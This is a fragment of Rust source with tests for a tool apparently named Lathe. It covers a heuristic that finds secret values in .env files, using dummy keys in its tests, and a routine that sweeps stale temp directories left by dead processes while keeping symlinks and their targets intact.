            let (name, value) = line.split_once('=')?;
            let value = value.trim().trim_matches(['"', '\'']);
            let random = value.len() >= 16
                && !value.contains(char::is_whitespace)
                && value.chars().any(|c| c.is_ascii_digit())
                && value.chars().any(|c| c.is_ascii_alphabetic());
            (crate::sandbox::holds_secret_value(name.trim()) || random).then(|| value.to_string())
        })
        .collect()
}

#[cfg(test)]
mod secrets_tests {
    use super::dotenv_secrets;

    proptest::proptest! {
        #![proptest_config(crate::props::config(256))]

        /// Any `.env`: no panic, and every secret taken is a value the
        /// file holds.
        #[test]
        fn any_env_file_gives_values_it_holds(text in proptest::prelude::prop_oneof![
            proptest::prelude::any::<String>(),
            "((export )?[A-Z_]{0,12}=[\"']?[ -~é]{0,20}[\"']?\n){0,8}",
        ]) {
            for value in dotenv_secrets(&text) {
                proptest::prop_assert!(text.contains(&value), "{:?} not in {:?}", value, text);
            }
        }
    }

    #[test]
    fn dotenv_values_that_are_secrets() {
        let text = "# comment\nNODE_ENV=production\nexport STRIPE_KEY=\"sk_live_abc12345\"\n\
                    SESSION_SALT=9f8e7d6c5b4a39281706f5e4\nPORT=8080\n";
        assert_eq!(
            dotenv_secrets(text),
            ["sk_live_abc12345", "9f8e7d6c5b4a39281706f5e4"]
        );
    }
}

#[cfg(test)]
mod private_tmp_tests {
    /// A directory a killed Lathe left is removed; a running Lathe's, one
    /// named otherwise, and a link (and what it leads to) stay.
    #[test]
    fn only_the_temp_directories_of_a_gone_lathe_are_swept() {
        let tmp = tempfile::tempdir().unwrap();
        let mut child = std::process::Command::new("true").spawn().unwrap();
        let dead = child.id();
        child.wait().unwrap();
        let alive = std::process::id();
        let target = tempfile::tempdir().unwrap();
        std::fs::write(target.path().join("keep"), "x").unwrap();
        let at = |n: &str| tmp.path().join(n);
        std::fs::create_dir(at(&format!("lathe-tmp-{dead}-abc"))).unwrap();
        std::fs::write(at(&format!("lathe-tmp-{dead}-abc/f")), "x").unwrap();
        std::fs::create_dir(at(&format!("lathe-tmp-{alive}-abc"))).unwrap();
        std::fs::create_dir(at("lathe-tmp-abc")).unwrap();
        std::fs::create_dir(at("lathe-tmp--1-abc")).unwrap();
        std::os::unix::fs::symlink(target.path(), at(&format!("lathe-tmp-{dead}-link"))).unwrap();
        super::sweep_private_tmps(tmp.path());
        assert!(!at(&format!("lathe-tmp-{dead}-abc")).exists());
        for kept in [
            format!("lathe-tmp-{alive}-abc"),
            "lathe-tmp-abc".into(),
            "lathe-tmp--1-abc".into(),
            format!("lathe-tmp-{dead}-link"),
        ] {
            assert!(at(&kept).symlink_metadata().is_ok(), "{kept} was removed");
        }
        assert!(target.path().join("keep").exists());
    }
}
